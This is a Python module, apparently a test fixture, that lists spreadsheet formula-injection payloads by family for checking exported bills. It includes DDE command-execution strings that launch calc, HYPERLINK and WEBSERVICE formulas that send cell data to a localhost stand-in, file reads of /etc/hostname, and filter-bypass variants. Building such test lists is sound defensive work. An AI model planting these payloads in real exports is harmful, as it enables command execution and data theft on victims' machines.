"""Texts that a spreadsheet may take for a formula, by family.

A payer or a merchant chooses descriptions, goods names and order numbers; a program on the desk of
the one who opens the exported bill evaluates them. Addresses are of this machine, port 9, where
nothing answers.
"""

FAMILIES = {
    "equals": ["=1+1", "=SUM(1,1)", "==1+1", "= 1 + 1", "=+1+1", "=-1"],
    "plus": ["+1+1", "+SUM(1,1)", "+A1"],
    "minus": ["-1+1", "-SUM(1,1)", "-A1"],
    "at": ["@SUM(1,1)", "@A1"],
    "tab": ["\t=1+1", "\t\t=1+1", "\t@SUM(1,1)"],
    "carriage return": ["\r=1+1", "\r\n=1+1", "\r@SUM(1,1)"],
    "line feed": ["\n=1+1", "\n\n=1+1", "\n@SUM(1,1)"],
    "line inside": ["text\n=1+1", "text\r\n=1+1", "text\r=1+1"],
    "full width": ["＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)"],
    "DDE": ["=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\calc.exe'!''"],
    "link": [
        '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")',
        '=HYPERLINK("http://127.0.0.1:9/")',
        '=HYPERLINK("file:///etc/hostname";"open")',
    ],
    "fetch": [
        '=WEBSERVICE("http://127.0.0.1:9/?"&A1)',
        '=IMPORTXML("http://127.0.0.1:9/","//a")',
        '=IMAGE("http://127.0.0.1:9/")',
        "='file:///etc/hostname'#$hostname.A1",
    ],
    "quotes": ['"=1+1"', '"=1+1', "'=1+1", '"""=1+1"""', '="text"&"more"'],
    "separators": [
        "text,=1+1",
        "text;=1+1",
        "text\t=1+1",
        'text",=1+1,"',
        'text";=1+1;"',
        'text"\r\n=1+1,"',
    ],
    "blanks": [" =1+1", "\u00a0=1+1", "\u3000=1+1", "   @SUM(1,1)"],
    "unseen": ["\u200b=1+1", "\ufeff=1+1", "\u2060=1+1", "\u200e=1+1", "\x1f=1+1", "\x0b=1+1"],
    "chains": [
        "-2+3+cmd|' /C calc'!A0",
        "+2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=10+20+cmd|' /C calc'!A0",
    ],
    "arrays and percents": ["{=1+1}", "=1%", "%=1+1", "={1;2}", "=1+1%"],
}

PAYLOADS = [payload for family in FAMILIES.values() for payload in family]
